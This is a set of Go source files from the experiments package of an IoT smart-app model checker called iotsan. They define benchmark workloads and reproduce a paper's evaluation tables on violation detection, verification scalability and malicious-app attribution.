	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 3, CheckConflicts: true, Invariants: invs,
		Incremental: engineIncremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 66, MaxStates: 20000}
	desc := fmt.Sprintf("market group %d (%d apps), MaxEvents=3, full invariants, cap %d states",
		largest, len(sources), copts.MaxStates)
	return m, copts, desc, nil
}

// GroupSchedulerWorkload builds the canonical multi-group Analyze
// workload: the two largest market groups installed as one system, so
// dependency analysis decomposes verification into many independent
// related sets. `iotsan-bench -table perf` runs it with sequential
// groups and with the concurrent group scheduler under the shared
// worker budget, recording the wall-clock for each into
// BENCH_<date>.json.
func GroupSchedulerWorkload() (*config.System, map[string]*ir.App, iotsan.Options, string, error) {
	sizes := make([]int, 7)
	for g := 1; g <= 6; g++ {
		sizes[g] = len(corpus.Group(g))
	}
	first, second := 1, 2
	for g := 2; g <= 6; g++ {
		switch {
		case sizes[g] > sizes[first]:
			first, second = g, first
		case g != first && sizes[g] > sizes[second]:
			second = g
		}
	}
	sources := append(append([]corpus.Source{}, corpus.Group(first)...), corpus.Group(second)...)
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, nil, iotsan.Options{}, "", err
	}
	sys := ExpertConfig("group-sched-bench", sources, apps)
	opts := iotsan.Options{
		MaxEvents:       2,
		MaxStatesPerSet: 20000,
	}
	desc := fmt.Sprintf("market groups %d+%d (%d apps), MaxEvents=2, cap %d states/set",
		first, second, len(sources), opts.MaxStatesPerSet)
	return sys, apps, opts, desc, nil
}

// PORWorkload builds the canonical partial-order-reduction workload:
// the first 12 apps of market group 1 under the concurrent design at
// MaxEvents=2 with the full invariant catalog — fully explorable, so
// the with/without-POR state counts compare complete searches. The POR
// reduction gate (TestPORReductionGate) and `iotsan-bench -table perf`
// (the states-before/after + reduction-ratio record in
// BENCH_<date>.json) share this workload shape.
func PORWorkload() (*model.Model, checker.Options, string, error) {
	sources := corpus.Group(1)
	if len(sources) > 12 {
		sources = sources[:12]
	}
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("por-bench", sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs, Design: model.Concurrent,
		Incremental: engineIncremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100}
	desc := fmt.Sprintf("market group 1 prefix (%d apps), concurrent design, MaxEvents=2, full invariants", len(sources))
	return m, copts, desc, nil
}

// SymmetrySystem builds the interchangeable-device deployment the
// symmetry gates and benchmarks share: the corpus symmetry group
// installed over three identical presence sensors and three identical
// entry contacts (two orbit capability types) driving a singleton hall
// light and front-door lock. Every multi-device input binds the whole
// fleet, so within-orbit sensor permutations induce isomorphic
// subspaces for the canonicalization layer to fold.
func SymmetrySystem(name string) (*config.System, map[string]*ir.App, error) {
	sources := corpus.SymmetryGroup()
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, nil, err
	}
	sys := &config.System{
		Name:  name,
		Modes: []string{"Home", "Away", "Night"},
		Mode:  "Home",
		Devices: []config.Device{
			{ID: "presA", Label: "Presence A", Model: "Presence Sensor"},
			{ID: "presB", Label: "Presence B", Model: "Presence Sensor"},
			{ID: "presC", Label: "Presence C", Model: "Presence Sensor"},
			{ID: "contactA", Label: "Door Contact A", Model: "Contact Sensor", Association: props.RoleEntryContact},
			{ID: "contactB", Label: "Door Contact B", Model: "Contact Sensor", Association: props.RoleEntryContact},
			{ID: "contactC", Label: "Door Contact C", Model: "Contact Sensor", Association: props.RoleEntryContact},
			{ID: "hallLight", Label: "Hall Light", Model: "Smart Bulb"},
			{ID: "frontLock", Label: "Front Door Lock", Model: "Smart Lock", Association: props.RoleMainDoor},
		},
		Phones: []string{"15551230000"},
	}
	people := config.Binding{DeviceIDs: []string{"presA", "presB", "presC"}}
	contacts := config.Binding{DeviceIDs: []string{"contactA", "contactB", "contactC"}}
	light := config.Binding{DeviceIDs: []string{"hallLight"}}
	lock := config.Binding{DeviceIDs: []string{"frontLock"}}
	for _, s := range sources {
		inst := config.AppInstance{App: s.Name, Bindings: map[string]config.Binding{}}
		for _, in := range apps[s.Name].Inputs {
			switch in.Name {
			case "people":
				inst.Bindings[in.Name] = people
			case "contacts":
				inst.Bindings[in.Name] = contacts
			case "light":
				inst.Bindings[in.Name] = light
			case "lock1":
				inst.Bindings[in.Name] = lock
			}
		}
		sys.Apps = append(sys.Apps, inst)
	}
	return sys, apps, nil
}

// SymmetryWorkload builds the canonical symmetry-reduction workload:
// the interchangeable-device system under the concurrent design at
// MaxEvents=2 with the full invariant catalog and Options.Symmetry
// model tables — fully explorable, so with/without-symmetry state
// counts compare complete searches. The ≥30% fold gate
// (TestSymmetryReductionGate) and `iotsan-bench -table perf` (the
// symmetry_runs record in BENCH_<date>.json) share this workload.
func SymmetryWorkload() (*model.Model, checker.Options, string, error) {
	sys, apps, err := SymmetrySystem("symmetry-bench")
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs,
		Design: model.Concurrent, Symmetry: true,
		Incremental: engineIncremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100}
	st := m.SymmetryStats()
	desc := fmt.Sprintf("symmetry group (%d apps, 3+3 interchangeable devices, %d orbits), concurrent design, MaxEvents=2, full invariants",
		len(sys.Apps), st.Orbits)
	return m, copts, desc, nil
}

// FaultSystem builds the climate deployment the fault-injection gates
// and benchmarks share: the corpus fault group installed over a
// temperature sensor, a space-heater outlet (association "heater"), a
// window-AC outlet (association "ac"), and a motion sensor. The
// heater/AC pair is switched off-before-on inside single handler runs,
// so the mutual-exclusion invariant over their associations only
// becomes violable once an outage can hold one of the commands in
// flight.
func FaultSystem(name string) (*config.System, map[string]*ir.App, error) {
	sources := corpus.FaultGroup()
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, nil, err
	}
	sys := &config.System{
		Name:  name,
		Modes: []string{"Home", "Away", "Night"},
		Mode:  "Home",
		Devices: []config.Device{
			{ID: "tempSensor", Label: "Room Temperature", Model: "Temperature Sensor"},
			{ID: "heaterOutlet", Label: "Space Heater", Model: "Space Heater", Association: props.RoleHeater},
			{ID: "acOutlet", Label: "Window AC", Model: "Window AC", Association: props.RoleAC},
			{ID: "hallMotion", Label: "Hall Motion", Model: "Motion Sensor"},
		},
		Phones: []string{"15551230000"},
	}
	for _, s := range sources {
		inst := config.AppInstance{App: s.Name, Bindings: map[string]config.Binding{}}
		for _, in := range apps[s.Name].Inputs {
			switch in.Name {
			case "sensor":
				inst.Bindings[in.Name] = config.Binding{DeviceIDs: []string{"tempSensor"}}
			case "heater":
				inst.Bindings[in.Name] = config.Binding{DeviceIDs: []string{"heaterOutlet"}}
			case "ac":
				inst.Bindings[in.Name] = config.Binding{DeviceIDs: []string{"acOutlet"}}
			case "motion":
				inst.Bindings[in.Name] = config.Binding{DeviceIDs: []string{"hallMotion"}}
			case "setpoint":
				inst.Bindings[in.Name] = config.Binding{Value: 75}
			}
		}
		sys.Apps = append(sys.Apps, inst)
	}
	return sys, apps, nil
}

// FaultWorkload builds the canonical fault-injection workload: the
// climate deployment at MaxEvents=2 with the full invariant catalog and
// the persistent fault layer configured with the given budget — fully
// explorable, so faults-off and faults-on state counts compare complete
// searches. The fault-only-violation reachability gate, the MaxFaults=0
// equivalence gate, and `iotsan-bench -table perf` (the fault_runs
// record in BENCH_<date>.json) share this workload.
func FaultWorkload(faults bool, maxFaults int) (*model.Model, checker.Options, string, error) {
	sys, apps, err := FaultSystem("fault-bench")
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, CheckRobustness: faults, Invariants: invs,
		Faults: faults, MaxFaults: maxFaults,
		Incremental: engineIncremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100 + 8*maxFaults}
	desc := fmt.Sprintf("fault group (%d apps, heater/AC exclusion), MaxEvents=2, full invariants, MaxFaults=%d",
		len(sys.Apps), maxFaults)
	return m, copts, desc, nil
}

// GroupModel builds the verification model for a configured system
// with the full invariant catalog at MaxEvents=2 — the equal-work
// benchmark workload (fully explorable, so every checker strategy
// performs identical expansion work).
func GroupModel(sys *config.System, apps map[string]*ir.App) (*model.Model, error) {
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, err
	}
	return model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs,
		Incremental: engineIncremental,
	})
}

// EncodeWorkload builds the equal-work incremental-digest comparison
// workload: the PORWorkload shape (market group 1 prefix, concurrent
// design, MaxEvents=2, fully explorable so full-encode and incremental
// variants perform identical expansion work) with the incremental
// cache explicitly on or off. `iotsan-bench -table perf` (the
// encode_runs record in BENCH_<date>.json) runs it per strategy ×
// {plain, por}; the symmetry rows use SymmetryEncodeWorkload.
func EncodeWorkload(incremental bool) (*model.Model, checker.Options, string, error) {
	sources := corpus.Group(1)
	if len(sources) > 12 {
		sources = sources[:12]
	}
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("encode-bench", sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs, Design: model.Concurrent,
		Incremental: incremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100}
	desc := fmt.Sprintf("market group 1 prefix (%d apps), concurrent design, MaxEvents=2, full invariants", len(sources))
	return m, copts, desc, nil
}

// SymmetryEncodeWorkload is the SymmetryWorkload with the incremental
// cache explicitly on or off — the symmetry rows of the encode_runs
// comparison (cached per-device block hashes double as orbit profile
// keys, so the canonical path is where incremental reuse compounds).
func SymmetryEncodeWorkload(incremental bool) (*model.Model, checker.Options, string, error) {
	sys, apps, err := SymmetrySystem("symmetry-encode-bench")
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs,
		Design: model.Concurrent, Symmetry: true,
		Incremental: incremental,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100}
	desc := fmt.Sprintf("symmetry group (%d apps, 3+3 interchangeable devices), concurrent design, MaxEvents=2, full invariants", len(sys.Apps))
	return m, copts, desc, nil
}
