package experiments

import (
	"fmt"

	"iotsan/internal/checker"
	"iotsan/internal/corpus"
	"iotsan/internal/model"
	"iotsan/internal/props"
)

// ParallelCheckWorkload builds the canonical checker-throughput
// workload: the largest market group under an expert configuration with
// the full invariant catalog, capped so every engine variant performs
// identical expansion work. BenchmarkParallelCheck and `iotsan-bench
// -table perf` (the BENCH_<date>.json record) share this single
// definition so the committed perf trajectory always measures exactly
// what the benchmark measures.
func ParallelCheckWorkload() (*model.Model, checker.Options, string, error) {
	largest := 1
	for g := 2; g <= 6; g++ {
		if len(corpus.Group(g)) > len(corpus.Group(largest)) {
			largest = g
		}
	}
	sources := corpus.Group(largest)
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("parallel-bench", sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 3, CheckConflicts: true, Invariants: invs,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 66, MaxStates: 20000}
	desc := fmt.Sprintf("market group %d (%d apps), MaxEvents=3, full invariants, cap %d states",
		largest, len(sources), copts.MaxStates)
	return m, copts, desc, nil
}
