package experiments

import "iotsan"

// engineStrategy/engineWorkers route every table experiment through a
// checker engine configuration; the bench CLI sets them from its
// -strategy/-workers flags. The zero values select the sequential DFS,
// which reproduces the paper's single-core Spin-style runs.
var (
	engineStrategy iotsan.Strategy
	engineWorkers  int
)

// SetEngine selects the checker engine used by the Run* experiments
// (workers 0 = GOMAXPROCS for the parallel strategy).
func SetEngine(strategy iotsan.Strategy, workers int) {
	engineStrategy = strategy
	engineWorkers = workers
}

// engineOptions applies the configured engine to an analysis run.
func engineOptions(o iotsan.Options) iotsan.Options {
	o.Strategy = engineStrategy
	o.Workers = engineWorkers
	return o
}
