package experiments

import "iotsan"

// engineStrategy/engineWorkers/engineGroupParallel route every table
// experiment through a checker engine configuration; the bench CLI sets
// them from its -strategy/-workers/-group-parallel flags. The zero
// values select the sequential DFS with sequential groups, which
// reproduces the paper's single-core Spin-style runs.
var (
	engineStrategy      iotsan.Strategy
	engineWorkers       int
	engineGroupParallel bool
	enginePOR           bool
	engineSymmetry      bool
	engineIncremental   = true
	engineEpochReclaim  = true
	engineFailures      bool
	engineFaults        bool
	engineMaxFaults     int
	engineStore         iotsan.StoreSelector
	engineStoreDir      string
	engineMemBudget     int64
	engineCheckpoint    bool
	engineResume        bool
)

// SetEngine selects the checker engine used by the Run* experiments
// (workers 0 = GOMAXPROCS for the parallel strategies).
func SetEngine(strategy iotsan.Strategy, workers int) {
	engineStrategy = strategy
	engineWorkers = workers
}

// SetGroupParallel enables the concurrent group scheduler (related sets
// verified under one shared worker budget) for the Run* experiments.
func SetGroupParallel(on bool) { engineGroupParallel = on }

// SetPOR enables partial-order reduction for the Run* experiments.
func SetPOR(on bool) { enginePOR = on }

// SetSymmetry enables symmetry reduction over interchangeable devices
// for the Run* experiments.
func SetSymmetry(on bool) { engineSymmetry = on }

// SetIncremental toggles the incremental block-hash state digest for
// the Run* experiments and the benchmark workloads (default on,
// mirroring the -incremental flag).
func SetIncremental(on bool) { engineIncremental = on }

// SetEpochReclaim toggles frontier-state recycling (epoch-based
// reclamation on the parallel strategies) for the Run* experiments and
// the benchmark workloads (default on, mirroring the -epoch-reclaim
// flag).
func SetEpochReclaim(on bool) { engineEpochReclaim = on }

// SetFailures enables transient device/communication failure
// enumeration for the Run* experiments (additive: experiments that
// enable failures themselves, like Table 5, are unaffected).
func SetFailures(on bool) { engineFailures = on }

// SetFaults enables the persistent fault-injection environment model
// (device outages, delayed/dropped commands, stale reads) with the
// given per-path fault budget for the Run* experiments.
func SetFaults(on bool, maxFaults int) {
	engineFaults = on
	engineMaxFaults = maxFaults
}

// SetStore selects the visited-state store for the Run* experiments
// and benchmark workloads: kind, the tiered store's scratch directory,
// and its resident hot-tier byte budget (0 = default).
func SetStore(kind iotsan.StoreSelector, dir string, memBudget int64) {
	engineStore = kind
	engineStoreDir = dir
	engineMemBudget = memBudget
}

// SetCheckpoint configures write-ahead checkpointing and resume for
// the Run* experiments (sequential DFS with the tiered store).
func SetCheckpoint(checkpoint, resume bool) {
	engineCheckpoint = checkpoint
	engineResume = resume
}

// engineOptions applies the configured engine to an analysis run.
// Failure/fault modes are OR-ed in, never cleared, so experiments that
// hard-enable a mode (RunTable5's Failures) keep it regardless of the
// CLI configuration.
func engineOptions(o iotsan.Options) iotsan.Options {
	o.Strategy = engineStrategy
	o.Workers = engineWorkers
	o.GroupParallel = engineGroupParallel
	o.POR = enginePOR
	o.Symmetry = engineSymmetry
	o.NoIncremental = !engineIncremental
	o.NoEpochReclaim = !engineEpochReclaim
	if engineFailures {
		o.Failures = true
	}
	if engineFaults {
		o.Faults = true
		o.MaxFaults = engineMaxFaults
	}
	if engineStore != iotsan.StoreExhaustive {
		o.Store = engineStore
		o.StoreDir = engineStoreDir
		o.MemBudget = engineMemBudget
	}
	if engineCheckpoint || engineResume {
		o.StoreDir = engineStoreDir
		o.Checkpoint = engineCheckpoint
		o.Resume = engineResume
	}
	return o
}
