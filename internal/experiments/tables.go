package experiments

import (
	"fmt"
	"strings"
	"time"

	"iotsan"
	"iotsan/internal/attribution"
	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/depgraph"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/smartapp"
)

// ViolationClass buckets violations the way Tables 5 and 6 report them.
type ViolationClass int

// Violation classes.
const (
	ClassConflicting ViolationClass = iota
	ClassRepeated
	ClassUnsafePhysical
	ClassOther
)

func classify(property string) ViolationClass {
	switch property {
	case model.PropConflicting:
		return ClassConflicting
	case model.PropRepeated:
		return ClassRepeated
	case model.PropLeakNetwork, model.PropLeakSMS, model.PropSuspUnsub,
		model.PropSuspFakeEvent, model.PropRobustness:
		return ClassOther
	}
	return ClassUnsafePhysical
}

// Table5Row is one violation-type row of Table 5.
type Table5Row struct {
	Class      ViolationClass
	Violations int
	Properties int
}

// Table5Result is the market-apps-with-expert-configuration experiment.
type Table5Result struct {
	Rows            []Table5Row
	TotalViolations int
	Properties      int // distinct violated properties
	RemovedApps     []string
	// FailureExtraProperties counts properties violated only once
	// device/communication failures are enabled (§10.2 reports 9).
	FailureExtraProperties int
}

// RunTable5 reproduces the first experiment of §10.1/§10.2: the market
// apps of the six groups with expert configurations, iterating
// remove-a-bad-app-and-repeat until no violation is detected, then once
// more with failures enabled.
func RunTable5(maxEvents int, groups []int) (*Table5Result, error) {
	res := &Table5Result{}
	byClass := map[ViolationClass]map[string]int{}
	classProps := map[ViolationClass]map[string]bool{}
	seenProps := map[string]bool{}
	failProps := map[string]bool{}

	for _, g := range groups {
		sources := corpus.Group(g)
		apps, err := TranslateAll(sources)
		if err != nil {
			return nil, err
		}
		remaining := append([]corpus.Source(nil), sources...)

		// Iterate: verify, remove the minimum set of associated apps,
		// repeat until clean (§10.1).
		for iter := 0; iter < len(sources); iter++ {
			sys := ExpertConfig(fmt.Sprintf("group-%d", g), remaining, apps)
			rep, err := iotsan.AnalyzeTranslated(sys, apps, engineOptions(iotsan.Options{
				MaxEvents: maxEvents, MaxStatesPerSet: 60000,
				Deadline: 10 * time.Second,
			}))
			if err != nil {
				return nil, err
			}
			if len(rep.Violations) == 0 {
				break
			}
			removed := map[string]bool{}
			for _, v := range rep.Violations {
				cl := classify(v.Property)
				if byClass[cl] == nil {
					byClass[cl] = map[string]int{}
					classProps[cl] = map[string]bool{}
				}
				byClass[cl][v.Property+"\x00"+v.Detail]++
				classProps[cl][v.Property] = true
				seenProps[v.Property] = true
				// Remove the minimum number of associated apps: the
				// first app implicated by the violation detail/trail.
				if app := implicatedApp(remaining, v); app != "" && !removed[app] {
					removed[app] = true
				}
			}
			if len(removed) == 0 {
				break
			}
			var next []corpus.Source
			for _, s := range remaining {
				if !removed[s.Name] {
					next = append(next, s)
				} else {
					res.RemovedApps = append(res.RemovedApps, s.Name)
				}
			}
			remaining = next
		}

		// Failure run on the cleaned group: which additional properties
		// appear only under device/communication failures?
		sys := ExpertConfig(fmt.Sprintf("group-%d-failures", g), remaining, apps)
		rep, err := iotsan.AnalyzeTranslated(sys, apps, engineOptions(iotsan.Options{
			MaxEvents: maxEvents, Failures: true,
			MaxStatesPerSet: 60000, Deadline: 10 * time.Second,
		}))
		if err != nil {
			return nil, err
		}
		for _, v := range rep.Violations {
			if !seenProps[v.Property] {
				failProps[v.Property] = true
			}
		}
	}

	for _, cl := range []ViolationClass{ClassConflicting, ClassRepeated, ClassUnsafePhysical} {
		res.Rows = append(res.Rows, Table5Row{
			Class:      cl,
			Violations: len(byClass[cl]),
			Properties: len(classProps[cl]),
		})
		res.TotalViolations += len(byClass[cl])
	}
	res.Properties = len(seenProps)
	res.FailureExtraProperties = len(failProps)
	return res, nil
}

// implicatedApp extracts an app name mentioned in a violation, matched
// against the remaining apps.
func implicatedApp(remaining []corpus.Source, v checker.Found) string {
	for _, s := range remaining {
		if strings.Contains(v.Detail, s.Name) {
			return s.Name
		}
		for _, step := range v.Trail {
			for _, line := range step.Steps {
				if strings.Contains(line, s.Name) {
					return s.Name
				}
			}
		}
	}
	return ""
}

// Table6Result is the volunteer-configuration experiment (Table 6).
type Table6Result struct {
	Rows            []Table5Row
	TotalViolations int
	Properties      int
	Configurations  int
}

// volunteerGroups returns the 10 groups of ~5 related apps (§10.1
// "Market apps with non-expert configurations").
func volunteerGroups() [][]string {
	return [][]string{
		{"Virtual Thermostat", "It's Too Cold", "It's Too Hot", "Heater Minder", "AC Minder"},
		{"Brighten Dark Places", "Let There Be Dark!", "Let There Be Light", "Smart Nightlight", "Closet Light"},
		{"Auto Mode Change", "Unlock Door", "Big Turn On", "Big Turn Off", "Make It So"},
		{"Good Night", "Light Follows Me", "Light Off When Close", "Darken Behind Me", "Lights Out at Night"},
		{"Smart Security", "Intruder Strobe", "Entry Breach Siren", "Alarm Silencer", "Security Arm on Away"},
		{"Lock It When I Leave", "Unlock When I Arrive", "Auto Lock Door", "Guest Mode Unlock", "Everyone's Gone"},
		{"Smoke Alarm Actions", "Smoke Heater Cutoff", "Fire Escape Unlock", "Smoke Valve Protect", "Smoke Lights Beacon"},
		{"Flood Alert", "Basement Water Watch", "Water Heater Leak Guard", "Presence Valve Control", "Leak Chime"},
		{"Comfort Band Keeper", "Window Fan When Cool", "Night Heat Drop", "Space Heater Curfew", "Freeze Guard"},
		{"I'm Back", "Two Stage Departure", "Switch Changes Mode", "Sunset Mode Change", "Sunrise Mode Change"},
	}
}

// RunTable6 reproduces Table 6: 10 groups × 7 volunteer configurations.
func RunTable6(maxEvents int, volunteers int, groupLimit int) (*Table6Result, error) {
	res := &Table6Result{}
	byClass := map[ViolationClass]map[string]int{}
	classProps := map[ViolationClass]map[string]bool{}
	seenProps := map[string]bool{}

	groups := volunteerGroups()
	if groupLimit > 0 && groupLimit < len(groups) {
		groups = groups[:groupLimit]
	}
	for gi, names := range groups {
		var sources []corpus.Source
		for _, n := range names {
			s, ok := corpus.ByName(n)
			if !ok {
				return nil, fmt.Errorf("experiments: unknown app %q", n)
			}
			sources = append(sources, s)
		}
		apps, err := TranslateAll(sources)
		if err != nil {
			return nil, err
		}
		for v := 0; v < volunteers; v++ {
			res.Configurations++
			sys := VolunteerConfig(fmt.Sprintf("vol-g%d-v%d", gi, v), sources, apps,
				int64(gi*100+v+1))
			rep, err := iotsan.AnalyzeTranslated(sys, apps, engineOptions(iotsan.Options{
				MaxEvents: maxEvents, MaxStatesPerSet: 40000,
				Deadline: 8 * time.Second,
			}))
			if err != nil {
				return nil, err
			}
			for _, f := range rep.Violations {
				cl := classify(f.Property)
				if byClass[cl] == nil {
					byClass[cl] = map[string]int{}
					classProps[cl] = map[string]bool{}
				}
				// Count per configuration (the paper counts violations
				// across configurations).
				byClass[cl][fmt.Sprintf("%d/%d/%s", gi, v, f.Property)]++
				classProps[cl][f.Property] = true
				seenProps[f.Property] = true
			}
		}
	}
	for _, cl := range []ViolationClass{ClassConflicting, ClassRepeated, ClassUnsafePhysical} {
		res.Rows = append(res.Rows, Table5Row{
			Class:      cl,
			Violations: len(byClass[cl]),
			Properties: len(classProps[cl]),
		})
		res.TotalViolations += len(byClass[cl])
	}
	res.Properties = len(seenProps)
	return res, nil
}

// Table7aRow is one group's scalability numbers.
type Table7aRow struct {
	Group        int
	OriginalSize int
	NewSize      int
	Ratio        float64
}

// RunTable7a computes the dependency-analysis scale ratios of Table 7a
// over the paper's random six-way division of the 150 market apps.
func RunTable7a() ([]Table7aRow, float64, error) {
	var rows []Table7aRow
	sum := 0.0
	for g, sources := range RandomGroups(1) {
		g++ // 1-based group ids
		apps, err := TranslateAll(sources)
		if err != nil {
			return nil, 0, err
		}
		var handlers []smartapp.HandlerInfo
		for _, s := range sources {
			handlers = append(handlers, smartapp.AnalyzeHandlers(apps[s.Name])...)
		}
		st := depgraph.Scale(handlers)
		rows = append(rows, Table7aRow{Group: g, OriginalSize: st.OriginalSize,
			NewSize: st.NewSize, Ratio: st.Ratio()})
		sum += st.Ratio()
	}
	return rows, sum / 6, nil
}

// Table7bRow is one event-count row comparing the two designs.
type Table7bRow struct {
	Events           int
	ConcurrentStates int
	ConcurrentTime   time.Duration
	ConcurrentCap    bool // hit the state cap ("forever" in the paper)
	SequentialStates int
	SequentialTime   time.Duration
}

// table7bSystem builds the §10.1 performance system: two bad groups and
// one good group controlling 3 switches, 3 motion sensors, and one
// temperature sensor.
func table7bSystem() (*config.System, map[string]*ir.App, error) {
	names := []string{"Auto Mode Change", "Unlock Door", "Brighten Dark Places",
		"Let There Be Dark!", "Good Night", "It's Too Cold"}
	var sources []corpus.Source
	for _, n := range names {
		s, _ := corpus.ByName(n)
		sources = append(sources, s)
	}
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, nil, err
	}
	sys := ExpertConfig("perf", sources, apps)
	return sys, apps, nil
}

// RunTable7b compares concurrent vs sequential verification runtimes
// (Table 7b shape: concurrent explodes, sequential stays flat).
func RunTable7b(maxEventsList []int, stateCap int) ([]Table7bRow, error) {
	sys, apps, err := table7bSystem()
	if err != nil {
		return nil, err
	}
	var rows []Table7bRow
	for _, n := range maxEventsList {
		row := Table7bRow{Events: n}

		for _, design := range []iotsan.Design{iotsan.Concurrent, iotsan.Sequential} {
			rep, err := iotsan.AnalyzeTranslated(sys, apps, engineOptions(iotsan.Options{
				MaxEvents: n, Design: design,
				MaxStatesPerSet: stateCap, Deadline: 12 * time.Second,
			}))
			if err != nil {
				return nil, err
			}
			states, truncated := 0, false
			for _, g := range rep.Groups {
				states += g.Result.StatesExplored
				truncated = truncated || g.Result.Truncated
			}
			if design == iotsan.Concurrent {
				row.ConcurrentStates = states
				row.ConcurrentTime = rep.Elapsed
				row.ConcurrentCap = truncated
			} else {
				row.SequentialStates = states
				row.SequentialTime = rep.Elapsed
			}
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// Table8Row is one verification-time measurement (Table 8).
type Table8Row struct {
	Events    int
	States    int
	Elapsed   time.Duration
	Truncated bool
}

// RunTable8 measures sequential verification time versus event count for
// a bigger violation-free system (5 related apps, 10 devices in use).
func RunTable8(events []int, stateCap int) ([]Table8Row, error) {
	names := []string{"Good Night", "It's Too Cold", "Light Follows Me",
		"Darken Behind Me", "Lights Out at Night"}
	var sources []corpus.Source
	for _, n := range names {
		s, _ := corpus.ByName(n)
		sources = append(sources, s)
	}
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, err
	}
	sys := ExpertConfig("table8", sources, apps)
	var rows []Table8Row
	for _, n := range events {
		rep, err := iotsan.AnalyzeTranslated(sys, apps, engineOptions(iotsan.Options{
			MaxEvents: n, NoDepGraph: true,
			MaxStatesPerSet: stateCap, Deadline: 30 * time.Second,
		}))
		if err != nil {
			return nil, err
		}
		states, trunc := 0, false
		for _, g := range rep.Groups {
			states += g.Result.StatesExplored
			trunc = trunc || g.Result.Truncated
		}
		rows = append(rows, Table8Row{Events: n, States: states,
			Elapsed: rep.Elapsed, Truncated: trunc})
	}
	return rows, nil
}

// AttributionRow is one app's attribution outcome (§10.3).
type AttributionRow struct {
	App     string
	Tag     corpus.Tag
	Verdict attribution.Verdict
	Ratio1  float64
	Ratio2  float64
}

// RunAttribution evaluates the Output Analyzer on the 9 malicious apps,
// the 11 bad market apps, and 10 good apps (§10.3).
func RunAttribution(maxEvents int) ([]AttributionRow, error) {
	base := &config.System{
		Name: "attr-home", Modes: []string{"Home", "Away", "Night"}, Mode: "Home",
		Devices: HomeInventory(), Phones: []string{"15551230000"},
	}
	var rows []AttributionRow

	runSet := func(set []corpus.Source, tag corpus.Tag, limit int) error {
		for i, s := range set {
			if limit > 0 && i >= limit {
				break
			}
			app, err := smartapp.Translate(s.Groovy)
			if err != nil {
				return err
			}
			apps := map[string]*ir.App{s.Name: app}
			rep, err := attribution.AttributeNewApp(base, app, apps, attribution.Options{
				MaxEvents: maxEvents, MaxConfigs: 12,
				Strategy: engineStrategy, Workers: engineWorkers,
			})
			if err != nil {
				return err
			}
			rows = append(rows, AttributionRow{App: s.Name, Tag: tag,
				Verdict: rep.Verdict, Ratio1: rep.Phase1Ratio(), Ratio2: rep.Phase2Ratio()})
		}
		return nil
	}

	if err := runSet(corpus.WithTag(corpus.TagMalicious), corpus.TagMalicious, 0); err != nil {
		return nil, err
	}
	if err := runSet(corpus.WithTag(corpus.TagBad), corpus.TagBad, 0); err != nil {
		return nil, err
	}
	if err := runSet(corpus.WithTag(corpus.TagGood), corpus.TagGood, 10); err != nil {
		return nil, err
	}
	return rows, nil
}
