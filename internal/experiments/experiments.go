// Package experiments builds the evaluation workloads of §10 and runs
// the per-table experiments. The paper's configurations were produced by
// the authors ("expert") and by seven student volunteers; this package
// synthesizes deterministic equivalents: the expert configuration binds
// every input to a sensible device of the shared home inventory, and
// volunteer configurations apply seeded perturbations that reproduce the
// characteristic mistakes of §2.2 (e.g. configuring the Virtual
// Thermostat with both the heater and the AC outlet).
package experiments

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/device"
	"iotsan/internal/ir"
